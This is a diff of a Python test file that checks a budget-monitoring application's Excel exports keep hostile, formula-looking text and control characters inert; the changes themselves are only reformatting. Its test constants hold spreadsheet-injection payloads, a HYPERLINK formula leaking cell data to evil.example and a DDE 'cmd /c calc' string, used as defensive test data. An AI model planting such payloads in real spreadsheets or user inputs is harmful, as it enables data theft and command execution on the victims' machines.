@@ -3,6 +3,7 @@ as text, and control characters (Word's soft line break \\x0b and the like) neve
 
 The hostile text is written straight into the database, as text that reached it before input was
 normalised would be: whatever is stored, every export opens and shows the words as they were written."""
+
 from __future__ import annotations
 
 import io
@@ -32,14 +33,16 @@ from .conftest import login
 
 PROJECT_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")\x0b第二行\x01'
 INDICATOR_NAME = '+cmd|" /c calc"!A0\x0c决策统计分析'
-PROGRESS = '=1+1\x0b已完成年度工作\x1f'
-CAUSE = '@SUM(A1:A9)\x0b资金拨付晚于计划\x08'
-MEASURE = '-2+3\x0c四季度集中推进'
+PROGRESS = "=1+1\x0b已完成年度工作\x1f"
+CAUSE = "@SUM(A1:A9)\x0b资金拨付晚于计划\x08"
+MEASURE = "-2+3\x0c四季度集中推进"
 QUALITATIVE = "2025-001.05"  # 决策统计分析: its actual is the progress text as written
 
 
 def _cleaned(text: str) -> str:
-    return text.replace("\x0b", "\n").replace("\x0c", "\n").translate({c: None for c in range(32) if c not in (9, 10, 13)})
+    return (
+        text.replace("\x0b", "\n").replace("\x0c", "\n").translate({c: None for c in range(32) if c not in (9, 10, 13)})
+    )
 
 
 @pytest.fixture
@@ -53,8 +56,11 @@ def hostile_year(app):
         session.execute(update(Project).where(Project.code == "2025-001").values(name=PROJECT_NAME))
         indicator = session.exec(select(Indicator).where(Indicator.code == QUALITATIVE)).one()
         session.execute(update(Indicator).where(Indicator.id == indicator.id).values(name=INDICATOR_NAME))
-        session.execute(update(ActualEntry).where(ActualEntry.indicator_id == indicator.id)
-                        .values(progress=PROGRESS, cause_text=CAUSE, measure_text=MEASURE, cause_category="经费保障"))
+        session.execute(
+            update(ActualEntry)
+            .where(ActualEntry.indicator_id == indicator.id)
+            .values(progress=PROGRESS, cause_text=CAUSE, measure_text=MEASURE, cause_category="经费保障")
+        )
     return engine
 
 
@@ -111,8 +117,10 @@ def test_formula_looking_and_control_character_text_through_every_export(hostile
     assert cell.data_type == "s" and cell.quotePrefix  # Excel keeps it text even when the cell is edited
 
     # Both CLI exports and the run's workbook on the web, which failed for everyone before.
-    for command in (["export", "monitoring", "--year", "2025", "--as-of", "2025-07-31"],
-                    ["export", "self-evaluation", "--year", "2025"]):
+    for command in (
+        ["export", "monitoring", "--year", "2025", "--as-of", "2025-07-31"],
+        ["export", "self-evaluation", "--year", "2025"],
+    ):
         out = tmp_path / f"{command[1]}.xlsx"
         result = runner.invoke(main, [*command, "--out", str(out)])
         assert result.exit_code == 0, result.output
@@ -133,7 +141,7 @@ def test_the_blank_template_holds_text_only(engine):
     assert cells["绩效指标"][:2] == ["项目编号", "项目名称"] and "≥5项" in cells["绩效指标"]
 
 
-@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "=HYPERLINK(\"x\")", "-"])
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", '=HYPERLINK("x")', "-"])
 def test_a_cell_that_looks_like_a_formula_is_text(text):
     book = Book()
     sheet = book.sheet("s", [10], Page())
